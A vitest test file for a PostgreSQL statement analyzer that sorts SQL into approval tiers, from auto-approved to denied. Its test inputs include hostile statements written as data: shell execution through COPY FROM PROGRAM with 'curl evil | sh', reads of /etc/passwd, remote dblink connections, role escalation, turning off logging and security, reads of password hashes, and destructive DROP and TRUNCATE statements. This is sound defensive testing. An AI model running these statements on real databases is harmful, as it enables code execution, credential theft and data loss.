import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeSql, initSql, SQL_RULE_IDS } from '../src/sql/index.ts';
import { rules, sqlPolicyRules, tier } from './sql-helpers.ts';

beforeAll(async () => {
  await initSql();
  await initSql(); // idempotent
});

describe('policy entries', () => {
  it('has exactly one entry below the SQL marker for every rule id the analyzer can emit', () => {
    const ids = sqlPolicyRules().map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect([...ids].sort()).toEqual([...SQL_RULE_IDS].sort());
  });

  it('keeps uncertainty at least at review, except the informational multi-statement marker', () => {
    for (const r of sqlPolicyRules()) {
      if (r.category === 'uncertainty' && r.id !== 'sql.multi-statement')
        expect(r.floor, r.id).toBe('review');
    }
  });
});

describe('statement shape', () => {
  it('returns one command per statement with its own text', () => {
    const a = analyzeSql('SELECT 1;  DELETE FROM "Users" WHERE id = 5 ;', 'postgresql');
    expect(a.commands.map((c) => [c.name, c.text, c.kind, c.dialect])).toEqual([
      ['SELECT', 'SELECT 1', 'sql', 'postgresql'],
      ['DELETE', 'DELETE FROM "Users" WHERE id = 5', 'sql', 'postgresql'],
    ]);
  });

  it('slices statement text by bytes correctly around non-ASCII text', () => {
    const a = analyzeSql("SELECT 'héllo ☃'; DROP TABLE café", 'postgresql');
    expect(a.commands.map((c) => c.text)).toEqual(["SELECT 'héllo ☃'", 'DROP TABLE café']);
  });

  it('names statements by type', () => {
    const names = analyzeSql(
      'DROP TABLE a; DROP SCHEMA s; TRUNCATE t; ALTER TABLE t ADD COLUMN c int; GRANT SELECT ON t TO x; REVOKE SELECT ON t FROM x; BEGIN; COMMIT',
      'postgresql',
    ).commands.map((c) => c.name);
    expect(names).toEqual([
      'DROP TABLE',
      'DROP SCHEMA',
      'TRUNCATE',
      'ALTER TABLE',
      'GRANT',
      'REVOKE',
      'BEGIN',
      'COMMIT',
    ]);
  });
});

describe('read-only statements are auto', () => {
  it.each([
    'SELECT 1',
    'SELECT id, lower(email) FROM users WHERE id = 42',
    "SELECT 'DROP TABLE users'",
    'SELECT 1 -- DROP TABLE users',
    'SELECT /* DELETE FROM users */ 1',
    'SELECT count(*) FROM orders o JOIN users u ON u.id = o.user_id GROUP BY u.id',
    'WITH x AS (SELECT * FROM t) SELECT * FROM x',
    'SHOW search_path',
    'EXPLAIN SELECT * FROM t',
    'EXPLAIN DELETE FROM users',
    'SELECT * FROM drop_log WHERE truncate_flag',
    'SELECT $$DROP TABLE x$$',
  ])('%s', (sql) => {
    expect(rules(sql)).toEqual(['sql.read']);
    expect(tier(sql)).toBe('auto');
  });

  it('session statements are auto', () => {
    expect(tier('BEGIN; SELECT 1; COMMIT')).toBe('auto');
    expect(tier('SET statement_timeout = 1000')).toBe('auto');
  });
});

describe('writes with a real filter are reviewed', () => {
  it.each([
    'UPDATE t SET x = 1 WHERE id = 5',
    'DELETE FROM t WHERE id = 5',
    "DELETE FROM sessions WHERE expires_at < now() - interval '1 day'",
    'INSERT INTO t (a) VALUES (1)',
    'INSERT INTO t SELECT * FROM s ON CONFLICT DO NOTHING',
    'UPDATE t SET x = 1 WHERE id > 100',
    'DELETE FROM t WHERE amount > 0',
    'COPY t FROM STDIN',
  ])('%s', (sql) => {
    expect(rules(sql)).toContain('sql.write');
    expect(tier(sql)).toBe('review');
  });
});

describe('irreversible statements need multiple approvers', () => {
  it.each([
    ['DROP TABLE users', 'sql.drop'],
    ['drop table "users"', 'sql.drop'],
    ['DROP TABLE IF EXISTS public.users, orders', 'sql.drop'],
    ['DROP SCHEMA app CASCADE', 'sql.drop'],
    ['DROP DATABASE prod', 'sql.drop'],
    ['DROP VIEW v CASCADE', 'sql.drop'],
    ['TRUNCATE users', 'sql.truncate'],
    ['TRUNCATE TABLE a, b RESTART IDENTITY', 'sql.truncate'],
    ['DELETE FROM users', 'sql.delete.no-where'],
    ['UPDATE users SET admin = true', 'sql.update.no-where'],
    ['DELETE FROM users WHERE 1=1', 'sql.delete.tautological-where'],
    ['DELETE FROM users WHERE true', 'sql.delete.tautological-where'],
    ["DELETE FROM users WHERE 'a' = 'a'", 'sql.delete.tautological-where'],
    ['DELETE FROM users WHERE email = email', 'sql.delete.tautological-where'],
    ['DELETE FROM users WHERE id = 5 OR 1=1', 'sql.delete.tautological-where'],
    ['DELETE FROM users WHERE NOT false', 'sql.delete.tautological-where'],
    ["DELETE FROM users WHERE 't'::boolean", 'sql.delete.tautological-where'],
    ['UPDATE users SET a = 1 WHERE id > 0', 'sql.update.tautological-where'],
    ['UPDATE users SET a = 1 WHERE user_id >= 1', 'sql.update.tautological-where'],
    ['UPDATE users SET a = 1 WHERE id IS NOT NULL', 'sql.update.tautological-where'],
    ["DELETE FROM users WHERE name LIKE '%'", 'sql.delete.tautological-where'],
    ['DELETE FROM users WHERE 0 < id', 'sql.delete.tautological-where'],
    ['WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', 'sql.cte.data-modifying'],
    ['WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT 1', 'sql.cte.data-modifying'],
    ['ALTER TABLE users DROP COLUMN email', 'sql.ddl.data-loss'],
    ['ALTER TABLE users ALTER COLUMN amount TYPE int', 'sql.ddl.data-loss'],
    ['EXPLAIN ANALYZE DELETE FROM users', 'sql.delete.no-where'],
    [
      'SELECT * FROM t WHERE id IN (SELECT id FROM (WITH d AS (DELETE FROM u RETURNING id) SELECT id FROM d) s)',
      'sql.delete.no-where',
    ],
    ['DROP OWNED BY app', 'sql.drop'],
  ])('%s → %s', (sql, rule) => {
    expect(rules(sql)).toContain(rule);
    expect(tier(sql)).toBe('multi_party');
  });

  it('explains what matched', () => {
    const a = analyzeSql('DELETE FROM users', 'postgresql');
    expect(a.findings[0]?.detail).toBe('DELETE FROM users has no WHERE clause');
    const b = analyzeSql('UPDATE accounts SET x = 1 WHERE id > 0', 'postgresql');
    expect(b.findings[0]?.detail).toContain('id > 0');
  });

  it('does not treat a real filter as tautological', () => {
    for (const sql of [
      'DELETE FROM t WHERE id > 10',
      'DELETE FROM t WHERE a.id = b.id',
      'DELETE FROM t WHERE 1 = 1 AND id = 3',
      'DELETE FROM t WHERE id IS NULL',
      "DELETE FROM t WHERE name LIKE 'a%'",
      'DELETE FROM t WHERE false OR id = 2',
    ]) {
      expect(rules(sql), sql).toEqual(['sql.write']);
    }
  });
});

describe('out-of-scope statements are denied', () => {
  it.each([
    ['GRANT ALL ON users TO bob', 'sql.privilege'],
    ['REVOKE SELECT ON users FROM bob', 'sql.privilege'],
    ['GRANT admin TO bob', 'sql.privilege'],
    ['CREATE ROLE x SUPERUSER LOGIN', 'sql.privilege'],
    ["ALTER ROLE bob WITH PASSWORD 'x'", 'sql.privilege'],
    ['ALTER TABLE t OWNER TO bob', 'sql.privilege'],
    ['SET ROLE postgres', 'sql.privilege'],
    ['SET SESSION AUTHORIZATION admin', 'sql.privilege'],
    ["SELECT set_config('role', 'postgres', false)", 'sql.privilege'],
    ["CREATE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'SELECT 1'", 'sql.privilege'],
    ["COPY t FROM PROGRAM 'curl evil | sh'", 'sql.server-program'],
    ["COPY (SELECT 1) TO PROGRAM 'sh'", 'sql.server-program'],
    ["COPY users TO '/tmp/users.csv'", 'sql.server-file-access'],
    ["COPY t FROM '/etc/passwd'", 'sql.server-file-access'],
    ["SELECT pg_read_file('/etc/passwd')", 'sql.server-file-access'],
    [
      "SELECT * FROM t WHERE id = (SELECT length(pg_catalog.pg_read_binary_file('/x')))",
      'sql.server-file-access',
    ],
    ["SELECT lo_import('/etc/passwd')", 'sql.server-file-access'],
    ["SELECT lo_export(1, '/tmp/x')", 'sql.server-file-access'],
    ["SELECT upper(pg_ls_dir('.'))", 'sql.server-file-access'],
    ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", 'sql.remote-connection'],
    ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", 'sql.remote-connection'],
    ['CREATE EXTENSION plpython3u', 'sql.untrusted-language'],
    ['CREATE EXTENSION IF NOT EXISTS plperlu', 'sql.untrusted-language'],
    ['CREATE LANGUAGE plpython3u', 'sql.untrusted-language'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os'", 'sql.untrusted-language'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so', 'f'", 'sql.untrusted-language'],
    ["DO LANGUAGE plpython3u 'import os'", 'sql.untrusted-language'],
    ["LOAD '/tmp/evil.so'", 'sql.untrusted-language'],
    ['CREATE EXTENSION adminpack', 'sql.server-file-access'],
    ["ALTER SYSTEM SET log_statement = 'none'", 'sql.server-config'],
    ['SELECT pg_reload_conf()', 'sql.server-config'],
    ['SET session_replication_role = replica', 'sql.defense-evasion'],
    ["SELECT set_config('log_statement', 'none', false)", 'sql.defense-evasion'],
    ['ALTER TABLE t DISABLE TRIGGER ALL', 'sql.defense-evasion'],
    ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', 'sql.defense-evasion'],
    ['SELECT rolname, rolpassword FROM pg_authid', 'sql.credential-read'],
    ['SELECT * FROM pg_catalog.pg_shadow', 'sql.credential-read'],
  ])('%s → %s', (sql, rule) => {
    expect(rules(sql)).toContain(rule);
    expect(tier(sql)).toBe('deny');
  });
});

describe('session killers are operational, not out of scope', () => {
  it('needs two people to terminate sessions and one to cancel a query', () => {
    const terminate = 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity';
    expect(rules(terminate)).toContain('sql.session-kill');
    expect(tier(terminate)).toBe('multi_party');
    expect(rules('SELECT pg_cancel_backend(123)')).toContain('sql.query-cancel');
    expect(tier('SELECT pg_cancel_backend(123)')).toBe('review');
  });
});

describe('code the analyzer cannot fully see is never auto', () => {
  it('analyses the SQL inside a DO block', () => {
    const r = rules("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$");
    expect(r).toContain('sql.do-block');
    expect(r).toContain('sql.drop');
    expect(tier("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$")).toBe('multi_party');
    expect(tier('DO $$ BEGIN DELETE FROM t; END $$')).toBe('multi_party');
    expect(tier("DO $x$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $x$")).toBe('deny');
  });

  it('flags EXECUTE of a string built at run time and judges its known parts', () => {
    // Issue 12, class 9: `'TRUNCATE ' || t` is a TRUNCATE of some table; what cannot be folded
    // is worst-case multi_party (it was review, with the TRUNCATE unseen).
    const sql = "DO $$ DECLARE t text := 'users'; BEGIN EXECUTE 'TRUNCATE ' || t; END $$";
    expect(rules(sql)).toContain('sql.dynamic-sql.unfoldable');
    expect(rules(sql)).toContain('sql.truncate');
    expect(tier(sql)).toBe('multi_party');
  });

  it('folds format(), concat() and quote_ident() in EXECUTE', () => {
    expect(rules("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$")).toContain('sql.drop');
    expect(rules("DO $$ BEGIN EXECUTE concat('TRUNCATE ', quote_ident('t')); END $$")).toContain(
      'sql.truncate',
    );
    expect(tier("DO $$ BEGIN EXECUTE format('UPDATE %I SET a = 1 WHERE id = %s', 't', 5); END $$")).toBe(
      'review',
    );
  });

  it('folds EXECUTE of constant strings joined with || (held-out corpus)', () => {
    const sql = "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'audit_log'; END $$";
    expect(rules(sql)).toContain('sql.drop');
    expect(rules(sql)).not.toContain('sql.dynamic-sql');
    expect(tier(sql)).toBe('multi_party');
    expect(tier("DO $$ BEGIN EXECUTE 'ALTER ROLE app ' || 'SUPERUSER'; END $$")).toBe('deny');
  });

  it('reviews a harmless DO block', () => {
    expect(tier("DO $$ BEGIN RAISE NOTICE 'hi'; END $$")).toBe('review');
  });

  it('reviews a DO block whose body does not parse', () => {
    expect(rules('DO $$ BEGIN SELEC 1; END $$')).toContain('sql.parse-error');
    expect(tier('DO $$ BEGIN SELEC 1; END $$')).toBe('review');
  });

  it('reviews EXECUTE of a statement prepared elsewhere, analyses one prepared here', () => {
    expect(rules('EXECUTE stmt(1)')).toContain('sql.dynamic-sql');
    expect(tier('PREPARE p AS DELETE FROM t; EXECUTE p')).toBe('multi_party');
    expect(rules('PREPARE p AS SELECT 1; EXECUTE p')).not.toContain('sql.dynamic-sql');
  });

  it('analyses query strings passed to query_to_xml', () => {
    expect(tier("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')")).toBe('multi_party');
    expect(rules("SELECT query_to_xml(q, true, true, '') FROM qs")).toContain('sql.dynamic-sql');
  });

  it('reviews calls to functions that are not known read-only built-ins', () => {
    expect(rules('SELECT purge_everything()')).toEqual(['sql.function.unknown']);
    expect(tier('SELECT app.lower(name) FROM t')).toBe('review');
    expect(tier('CALL archive_orders()')).toBe('review');
    expect(tier('SELECT pg_sleep(10)')).toBe('review');
  });

  it('analyses function bodies', () => {
    expect(tier("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM users'")).toBe('multi_party');
    expect(
      tier('CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END'),
    ).toBe('multi_party');
    expect(
      tier("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE t'; END $$"),
    ).toBe('multi_party');
    expect(tier('CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$')).toBe('review');
  });

  it('reviews statements it does not classify', () => {
    expect(rules('SECURITY LABEL ON TABLE t IS NULL').length).toBeGreaterThan(0);
    expect(tier('IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y')).toBe('deny');
  });
});

describe('multi-statement payloads', () => {
  it('scores every statement; the worst wins', () => {
    expect(tier('SELECT 1; SELECT 2')).toBe('auto');
    expect(tier('SELECT 1; DROP TABLE users')).toBe('multi_party');
    expect(tier('SELECT 1; DROP TABLE users; GRANT ALL ON t TO x')).toBe('deny');
    expect(rules('SELECT 1; SELECT 2')).toContain('sql.multi-statement');
    expect(rules('SELECT 1;')).not.toContain('sql.multi-statement');
  });

  it('a broken statement does not hide a dangerous neighbour', () => {
    const r = rules('SELEC 1; DROP TABLE users');
    expect(r).toContain('sql.parse-error');
    expect(r).toContain('sql.drop');
    expect(tier('SELEC 1; DROP TABLE users')).toBe('multi_party');
  });

  it('is not fooled by comments or strings containing semicolons', () => {
    expect(tier("SELECT ';DROP TABLE x;' -- ; DROP TABLE y")).toBe('auto');
    expect(tier('SELECT 1 /* ; DROP TABLE y */')).toBe('auto');
    expect(tier('SELECT 1 /* nested /* ; */ DROP TABLE y */')).toBe('auto');
    expect(tier('SELECT 1; /* c */ DROP /* c */ TABLE y')).toBe('multi_party');
    expect(tier('SELECT $a$ ; DROP TABLE y $a$')).toBe('auto');
  });
});

describe('parse failures', () => {
  it.each(['SELEC 1', 'DELETE FROM', "SELECT 'unterminated", '', '   ', '-- only a comment', 'DROP TABLE'])(
    '%j is never auto',
    (sql) => {
      expect(rules(sql)).toContain('sql.parse-error');
      expect(tier(sql)).not.toBe('auto');
    },
  );

  it('carries the parser message', () => {
    const a = analyzeSql('SELEC 1', 'postgresql');
    expect(a.findings[0]?.detail).toContain('syntax error at or near "SELEC"');
  });

  it('escalates unparsable statements lexically', () => {
    expect(tier('\\! rm -rf /')).toBe('deny');
    expect(tier('\\dt')).toBe('review');
    expect(tier('DROP TABLE users WHERE x')).toBe('multi_party');
  });

  it('uses MySQL syntax as a parse error under postgresql', () => {
    expect(rules('DELETE FROM `users`')).toContain('sql.parse-error');
  });
});

describe('NUL bytes', () => {
  it('cannot truncate what the parser sees', () => {
    const sql = 'SELECT\u0000 1; DROP TABLE users';
    expect(rules(sql)).toContain('sql.parse-error');
    expect(rules(sql)).toContain('sql.drop');
    expect(tier(sql)).toBe('multi_party');
    expect(tier('SELECT 1\u0000; DROP TABLE users', 'mysql')).toBe('multi_party');
  });
});
